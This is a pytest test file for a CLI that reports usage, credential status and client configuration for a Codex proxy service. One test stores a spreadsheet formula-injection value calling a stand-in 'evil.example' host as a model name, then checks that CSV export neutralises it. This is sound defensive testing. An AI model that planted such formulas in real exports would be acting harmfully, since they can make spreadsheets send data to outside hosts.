"""The commands usage, status and client-config."""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result

from ocm_wsgi.accounting import queries
from ocm_wsgi.accounting.turn_record import record_of
from ocm_wsgi.accounting.window_history import WindowHistory
from ocm_wsgi.config import load
from ocm_wsgi.protocol.responses.rate_limits import RateLimit, RateLimits, RateLimitWindow
from ocm_wsgi.protocol.responses.turn import Turn, Usage
from ocm_wsgi.quota.credential import DEFAULT_CREDENTIAL
from ocm_wsgi.storage.database import Database

Run = Callable[..., Result]
RunJson = Callable[..., Any]

#: 15 January 2027, 08:00 UTC.
START = 1_800_000_000


@pytest.fixture
def database(folder: Path) -> Iterator[Database]:
    database = Database(load({"HOME": str(folder)}, folder).database_url)
    yield database
    database.close()


def turn(number: int, user: str, model: str, usage: Usage | None, cost: int | None, days: int) -> Turn:
    """Return a turn that started some days after the first one."""
    started_at = START + days * 86_400
    return Turn(
        f"turn-{number}", started_at, user, DEFAULT_CREDENTIAL, model, "default", 0, START - 3600, usage, cost,
        "sse", "completed", 200, 1, 1,
    )  # fmt: skip


@pytest.fixture
def used(database: Database) -> None:
    """Record three turns: two by alice, one of them unpriced, and one by bob a day later without token counts."""
    turns = [
        turn(1, "alice", "gpt-5.5", Usage(1_000, 400, 50, 20), 12_345_678, 0),
        turn(2, "alice", "new-model", Usage(10, 0, 5), None, 0),
        turn(3, "bob", "gpt-5.5", None, None, 1),
    ]
    with database.write_directly() as direct:
        queries.store_records(direct, [record_of(turn) for turn in turns])


@pytest.mark.usefixtures("used")
def test_usage_table(run: Run) -> None:
    """Usage is summed by user, with a total; turns without a price or token counts are mentioned."""
    output = run("usage").stdout
    lines = [line.split() for line in output.splitlines()]
    assert lines[0] == ["USER", "TURNS", "INPUT", "CACHED", "OUTPUT", "USD"]
    assert lines[1] == ["alice", "2", "1,010", "400", "55", "12.35*"]
    assert lines[2] == ["bob", "1", "0", "0", "0", "0.00"]
    assert lines[3] == ["all", "3", "1,010", "400", "55", "12.35*"]
    assert "* 1 turn with models without a price" in output
    assert "1 turn without token counts" in output
    assert "estimated" not in output


@pytest.mark.usefixtures("used")
def test_usage_estimated(run: Run, run_json: RunJson, database: Database) -> None:
    """Estimates are marked in the table, and counted in JSON and CSV."""
    estimated = replace(turn(4, "bob", "gpt-5.5", Usage(30, 0, 3), 5_000_000, 1), estimated=True)
    with database.write_directly() as direct:
        queries.store_records(direct, [record_of(estimated)])
    output = run("usage").stdout
    assert [line.split()[-1] for line in output.splitlines()[1:4]] == ["12.35*", "5.00~", "17.35~*"]
    assert "~ 1 turn with estimated tokens" in output
    assert [row["turns_estimated"] for row in run_json("usage")] == [0, 1]
    header, *lines = csv.reader(run("usage", "--csv").stdout.splitlines())
    assert [dict(zip(header, line, strict=True))["turns_estimated"] for line in lines] == ["0", "1"]


@pytest.mark.usefixtures("used")
@pytest.mark.parametrize(
    ("arguments", "groups"),
    [
        (["--by", "model"], [["gpt-5.5"], ["new-model"]]),
        (["--by", "day"], [["2027-01-15"], ["2027-01-16"]]),
        (["--by", "week"], [["2027-01-15T07:00:00Z"]]),
        (["--by", "day", "--by", "user"], [["2027-01-15", "alice"], ["2027-01-16", "bob"]]),
        (["--since", "2027-01-16"], [["bob"]]),
        (["--user", "alice"], [["alice"]]),
        (["--since", "9999d"], [["alice"], ["bob"]]),
        (["--since", "2033-01-01"], []),
    ],
)
def test_usage_groups(run: Run, run_json: RunJson, arguments: list[str], groups: list[list[str]]) -> None:
    """JSON and CSV have the same groups, with exact counts."""
    rows = run_json("usage", *arguments)
    names = list(rows[0])[: len(groups[0])] if rows else []
    assert [[row[name] for name in names] for row in rows] == groups
    table = list(csv.reader(run("usage", *arguments, "--csv").stdout.splitlines()))
    assert [line[: len(names)] for line in table[1:]] == groups
    for row, line in zip(rows, table[1:], strict=True):
        assert dict(zip(table[0], line, strict=True))["cost_usd"] == f"{row['cost_usd']:.6f}"


def test_usage_csv_without_formulas(run: Run, database: Database) -> None:
    """The name of a model, which a client chose, is no formula for a spreadsheet."""
    formula = '=WEBSERVICE("http://evil.example")'
    with database.write_directly() as direct:
        queries.store_records(direct, [record_of(turn(1, "alice", formula, Usage(1, 0, 1), 1, 0))])
    rows = list(csv.reader(run("usage", "--by", "model", "--csv").stdout.splitlines()))
    assert [row[0] for row in rows] == ["model", f"'{formula}"]


def test_usage_of_other_units(run: Run, run_json: RunJson, database: Database) -> None:
    """What was not text is mentioned below the table, and has columns in JSON and CSV."""
    image = Usage(10, 0, 1056, image_input_tokens=4, image_output_tokens=1056, items=1)
    speech = Usage(0, 0, 0, characters=1234, media_ms=2500)
    with database.write_directly() as direct:
        turns = [turn(1, "alice", "gpt-image-2", image, 1, 0), turn(2, "alice", "tts-1", speech, 1, 0)]
        queries.store_records(direct, [record_of(each) for each in turns])
    assert (
        "Not only text: 4 image tokens in, 1,056 image tokens out, 1,234 characters, 1 item, 2.5 s of media."
        in " ".join(run("usage").stdout.split())
    )
    expected = {"image_output_tokens": 1056, "characters": 1234, "items": 1, "media_ms": 2500}
    (row,) = run_json("usage")
    assert {name: row[name] for name in expected} == expected
    header, line = csv.reader(run("usage", "--csv").stdout.splitlines())
    assert {name: int(dict(zip(header, line, strict=True))[name]) for name in expected} == expected


@pytest.mark.usefixtures("used")
def test_usage_nothing(run: Run) -> None:
    """A time without usage is reported as such."""
    assert run("usage", "--since", "2033-01-01").stdout == "No usage in this time.\n"
    assert run("usage", "--user", "alcie").stdout == "No usage in this time by alcie.\n"


@pytest.mark.usefixtures("used")
def test_status(run: Run, run_json: RunJson, folder: Path, database: Database) -> None:
    """Configuration, credential, state and the users' shares of the subscription are shown; no secret is."""
    quota = WindowHistory(database)
    for percent, at in ((0.0, START - 1), (40.0, START + 1)):
        limits = RateLimits((RateLimit("codex", None, RateLimitWindow(percent, 10_080, START + 86_400)),))
        quota.note(DEFAULT_CREDENTIAL, limits, at)
        quota.flush()
    (folder / ".codex").mkdir()
    (folder / ".codex" / "auth.json").write_text(json.dumps({"auth_mode": "apikey", "OPENAI_API_KEY": "sk-secret"}))
    result = run("status")
    assert result.exit_code == 0
    assert "an API key" in result.stdout
    assert re.search(r"alice +40\.0%", result.stdout)
    assert "1 user\n" in result.stdout
    assert "(outside this service)" in result.stdout
    assert "secret" not in result.output
    found = run_json("status")
    (window,) = found["windows"]
    assert (window["period"], window["used_percent"], window["users"]) == ("week", 40, {"alice": 40})
    assert found["credential"]["mode"] == "apikey"
    assert found["state"]["users"] == 1


@pytest.mark.parametrize("content", [None, "", "{", '{"auth_mode": "headers"}'])
def test_status_with_problems(run: Run, folder: Path, content: str | None) -> None:
    """An unusable credential is reported with its reason, and by the exit code."""
    if content is not None:
        (folder / ".codex").mkdir()
        (folder / ".codex" / "auth.json").write_text(content)
    (folder / "state").write_text("in the way")
    result = run("status")
    assert result.exit_code == 1
    assert "State" in result.stdout
    assert "cannot be created" in result.stdout


def test_client_config(run: Run, run_json: RunJson) -> None:
    """The output has the base URL and the variable, in the form that Codex expects, and no token."""
    text = run("client-config", "carol", "--base-url", "https://ocm.example.com/").stdout
    assert 'model_provider = "ocm"' in text
    assert 'base_url = "https://ocm.example.com/v1"' in text
    assert "codex -p ocm" in text
    assert "~/.codex/ocm.config.toml" in text
    assert "profiles" not in text
    assert "token-of-carol" not in text
    found = run_json("client-config", "carol")
    assert found["base_url"] == "http://127.0.0.1:8080/v1"
    keys = dict(re.findall(r"^(\w+) = (.+)$", found["config_toml"], re.MULTILINE))
    assert {key: json.loads(value) for key, value in keys.items()} == {
        "model_provider": "ocm",
        "name": "OCM",
        "base_url": "http://127.0.0.1:8080/v1",
        "env_key": "OCM_BEARER_TOKEN",
        "env_key_instructions": "Ask the owner of the service for your token.",
        "wire_api": "responses",
        "supports_websockets": True,
    }
    # Keys after a table's header belong to the table.
    assert found["config_toml"].index("model_provider =") < found["config_toml"].index("[model_providers.ocm]")
    compile(found["python"], "client.py", "exec")


@pytest.mark.parametrize(
    ("url", "is_cautioned"),
    [("http://ocm.example.com/v1", True), ("https://ocm.example.com/v1", False), ("http://127.0.0.1:8080/v1", False)],
)
def test_client_config_without_tls(run: Run, url: str, is_cautioned: bool) -> None:
    """A URL with which the token would be sent unencrypted is output with a caution, beside the configuration."""
    result = run("client-config", "carol", "--base-url", url)
    assert ("Caution" in result.stderr) == is_cautioned
    assert "Caution" not in result.stdout
    assert url in result.stdout


@pytest.mark.parametrize(
    ("given", "url"),
    [
        ("https://ocm.example.com", "https://ocm.example.com/v1"),
        ("https://ocm.example.com/v1/", "https://ocm.example.com/v1"),
        ("http://10.0.0.1:8080/codex/v1", "http://10.0.0.1:8080/codex/v1"),
    ],
)
def test_client_config_base_url(run_json: RunJson, given: str, url: str) -> None:
    """A URL without a path gets the API's path; any other path is kept."""
    assert run_json("client-config", "carol", "--base-url", given)["base_url"] == url
